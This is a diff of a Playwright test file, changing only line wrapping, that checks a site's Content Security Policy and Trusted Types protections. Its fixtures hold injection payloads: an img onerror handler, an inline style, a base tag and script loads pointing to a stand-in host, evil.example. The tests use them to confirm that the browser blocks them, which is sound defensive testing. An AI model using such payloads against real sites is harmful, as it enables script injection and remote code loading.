@@ -17,8 +17,13 @@ test('every page starts from nothing and names the provider only where its form 
     expect(policy, path).toMatch(/^default-src 'none'; script-src 'self'/)
     expect(policy, path).not.toMatch(/unsafe-|data:|blob:|\*/)
     expect(/https?:/.test(policy), `${path} names another origin`).toBe(page !== undefined && hasForm(page))
-    expect(policy.endsWith("require-trusted-types-for 'script'; trusted-types default"), `${path} takes trusted types`).toBe(!(page && hasForm(page)))
-    expect(html.indexOf('http-equiv'), `${path}: the policy stands before all that it judges`).toBeLessThan(html.search(/<(?:script|link|style)/))
+    expect(
+      policy.endsWith("require-trusted-types-for 'script'; trusted-types default"),
+      `${path} takes trusted types`,
+    ).toBe(!(page && hasForm(page)))
+    expect(html.indexOf('http-equiv'), `${path}: the policy stands before all that it judges`).toBeLessThan(
+      html.search(/<(?:script|link|style)/),
+    )
     expect(html, `${path} has no style attribute`).not.toMatch(/<[a-z][^>]*\sstyle=/)
   }
 })
@@ -31,7 +36,8 @@ test('what somebody writes into a page does not run and does not draw', async ({
     script.textContent = 'window.injected = true'
     document.body.append(script)
     const holder = document.createElement('div')
-    holder.innerHTML = '<img src="data:,x" onerror="window.injected = true"><p id="drawn" style="position:fixed">x</p><base href="https://evil.example/">'
+    holder.innerHTML =
+      '<img src="data:,x" onerror="window.injected = true"><p id="drawn" style="position:fixed">x</p><base href="https://evil.example/">'
     document.body.append(holder)
     const far = await fetch('https://evil.example/').then(
       () => true,
@@ -48,7 +54,10 @@ test('what somebody writes into a page does not run and does not draw', async ({
   expect(ran).toEqual({ injected: false, far: false, fixed: 'static', base: false })
 })
 
-test('on a page without a form no text becomes markup or code, and no script comes from elsewhere', async ({ page, noise }) => {
+test('on a page without a form no text becomes markup or code, and no script comes from elsewhere', async ({
+  page,
+  noise,
+}) => {
   noise.expect(/Trusted ?(?:HTML|Script|Type)/)
   await open(page, '/')
   const refused = await page.evaluate(() => {
@@ -62,9 +71,13 @@ test('on a page without a form no text becomes markup or code, and no script com
       'inline code': () => (script().textContent = 'x()'),
       'code from elsewhere': () => (script().src = 'https://evil.example/x.js'),
       'another policy': () =>
-        (window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }).trustedTypes.createPolicy('mine', {}),
+        (
+          window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
+        ).trustedTypes.createPolicy('mine', {}),
       'the policy anew': () =>
-        (window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }).trustedTypes.createPolicy('default', {}),
+        (
+          window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
+        ).trustedTypes.createPolicy('default', {}),
       'a file of the site': () => (script().src = '/assets/x.js'),
       'structured data': () => (script().innerHTML = '{"a":1}'),
     }
